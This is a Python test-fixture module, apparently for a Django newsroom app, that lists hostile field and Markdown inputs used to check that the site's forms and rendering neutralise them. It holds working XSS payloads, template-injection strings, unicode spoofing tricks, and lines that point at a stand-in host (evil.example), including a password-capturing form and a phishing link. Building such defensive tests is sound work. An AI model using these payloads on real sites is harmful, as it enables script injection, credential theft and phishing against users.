"""
Hostile text an editor (or an attacker with an editor's account, or a pasted wire story) could
type into any field: script injection, event handlers, ``javascript:`` URLs, attribute and
element breakouts (``</script>``, ``</title>``, ``]]>``), broken markup, pre-escaped and
percent-encoded markup, template syntax, and unicode tricks (bidirectional overrides, zero-width
characters, homoglyphs, full-width brackets, combining marks, a byte-order mark).

Each is at most 100 characters (the shortest text column, a tag's name), has no blank line (a
body paragraph break), no NUL (Django's form fields refuse it, and PostgreSQL text cannot hold
it) and no surrounding whitespace (form fields strip it).
"""

PAYLOADS: dict[str, str] = {
    # Script elements and their obfuscations.
    "script": '<script>alert("xss")</script>',
    "script-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-nested": "<<script>script>alert(1)<</script>/script>",
    "script-in-svg": "<svg><script>alert(1)</script></svg>",
    "script-zero-width": "<scr\u200dipt>alert(1)</scr\u200dipt>",
    "script-homoglyph": "<\u0455cript>alert(1)</\u0455cript>",  # Cyrillic dze, not an s
    "script-fullwidth": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "script-bom": "\ufeff<script>alert(1)</script>",
    # Event handlers.
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-newlines": "<img\nsrc=x\nonerror=alert(1)>",
    "svg-onload": "<svg/onload=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "custom-element": "<x-widget onclick=alert(1)>click me</x-widget>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    # javascript: and data: URLs.
    "a-javascript": '<a href="javascript:alert(1)">click</a>',
    "a-javascript-entities": '<a href="&#106;ava&#x09;script:alert(1)">click</a>',
    "a-javascript-zero-width": '<a href="java\u200bscript:alert(1)">x</a>',
    "bare-javascript-url": "javascript:alert(document.cookie)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=password></form>',
    "style-url": '<div style="background:url(javascript:alert(1))">x</div>',
    "style-element": "<style>body{display:none}</style>",
    "phishing-link": '<a href="https://evil.example/login" target=_blank>Log in again</a>',
    # Breaking out of the element or attribute the text lands in.
    "attribute-double-quote": '"><script>alert(1)</script>',
    "attribute-single-quote": "' onmouseover='alert(1)' x='",
    "attribute-unquoted": "x onfocus=alert(1) autofocus",
    "end-script": "</script><script>alert(1)</script>",
    "end-title": "</title><script>alert(1)</script>",
    "end-textarea": "</textarea><script>alert(1)</script>",
    "comment": "<!--<script>alert(1)</script>-->",
    "comment-open": "<!-- everything after this is a comment",
    "cdata-end": "]]><script>alert(1)</script><![CDATA[",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "xml-declaration": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]>&e;',
    "json-breakout": '"}]}</script><script>alert(1)</script>',
    # Broken and mutating markup.
    "unclosed-tags": "<p <b>unclosed <i>tags <div",
    "unterminated-attribute": '<img src="x',
    "mutation-xss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Already escaped or encoded: must print as typed, never be decoded into markup.
    "pre-escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric-entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "percent-encoded": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "ampersands-and-quotes": 'Tom & Jerry\'s "best" <friend> & co.',
    # Template syntax: content is never rendered as a template.
    "django-template": "{{ settings.SECRET_KEY }} {% debug %} {{ request.META }}",
    "other-templates": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    # Unicode tricks.
    "rtl-override": "Invoice \u202egnp.exe\u202c from the ministry",
    "zero-width": "Vladimir\u200b Putin\u200c said\u200d \u2060it\ufeff",
    "homoglyphs": "Vl\u0430dimir \u0420utin (\u0440\u0430ypal.com)",
    "combining-marks": "Z\u0335\u0321a\u0336\u0322l\u0334g\u0337o\u0338 <b>text</b>",
    "line-separators": "line\u2028separator\u2029paragraph",
    "control-characters": "pasted\x0bfrom\x0ca word\x1fprocessor",
    "emoji": "Breaking \U0001f6a8 news \U0001f469\u200d\U0001f4bb <3",
}


# Markdown an editor (or a pasted story) could put in the body to get past its rules: unsafe link
# schemes in every spelling, embeds and directives with hostile addresses or junk. The article
# form refuses each one, except BODY_TEXT_PAYLOADS, which the format reads as plain text (no link
# is made of them); rendered all the same, each is inert.
BODY_PAYLOADS: dict[str, str] = {
    "link-javascript": "[click](javascript:alert(1))",
    "link-javascript-case": "[click](JaVaScRiPt:alert(document.cookie))",
    "link-javascript-entity-scheme": "[click](&#106;avascript:alert(1))",
    "link-javascript-entity-colon": "[click](javascript&#58;alert(1))",
    "link-javascript-tab-entity": "[click](java&#x09;script:alert(1))",
    "link-javascript-angle": "[click](<javascript:alert(1)>)",
    "link-javascript-angle-space": "[click](<java script:alert(1)>)",
    "link-javascript-escaped": "[click](javascript\\:alert(1))",
    "link-javascript-percent": "[click](javascript%3Aalert(1))",
    "link-javascript-leading-space": "[click]( javascript:alert(1))",
    "link-javascript-title": '[click](javascript:alert(1) "title")',
    "link-vbscript": "[click](vbscript:msgbox(1))",
    "link-data-html": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-data-image": "[click](data:image/svg+xml,<svg onload=alert(1)>)",
    "link-file": "[click](file:///etc/passwd)",
    "link-protocol-relative": "[click](//evil.example/)",
    "link-backslashes": "[click](/\\\\evil.example/)",
    "link-attribute-breakout": '[click](https://example.org/"onmouseover="alert(1))',
    "link-in-bold": "**[click](javascript:alert(1))**",
    "link-reference": "[click][x]\n\n[x]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "image-syntax": "![x](javascript:alert(1))",
    "raw-html": "[click](https://example.org/) <a href=javascript:alert(1)>x</a>",
    "embed-javascript": "[[embed:javascript:alert(1)]]",
    "embed-data": "[[embed:data:text/html,<script>alert(1)</script>]]",
    "embed-breakout": '[[embed:https://www.youtube.com/watch?v="><script>alert(1)</script>]]',
    "embed-lookalike-host": "[[embed:https://www.youtube.com.evil.example/watch?v=dQw4w9WgXcQ]]",
    "embed-credentials": "[[embed:https://youtube.com@evil.example/watch?v=dQw4w9WgXcQ]]",
    "embed-unknown-site": "[[embed:https://evil.example/player.html]]",
    "image-junk": "[[image:1 onerror=alert(1)]]",
    "image-script": "[[image:<script>alert(1)</script>]]",
    "pullquote-junk": '[[pullquote:"><script>alert(1)</script>]]',
    "directive-unknown": "[[iframe:https://evil.example/]]",
    "directive-in-text": "Read this [[embed:https://evil.example/]] now.",
}

BODY_TEXT_PAYLOADS = frozenset(
    {
        "link-data-image",
        "link-backslashes",
        "link-attribute-breakout",
        "link-reference",
        "autolink",
        "raw-html",
    }
)
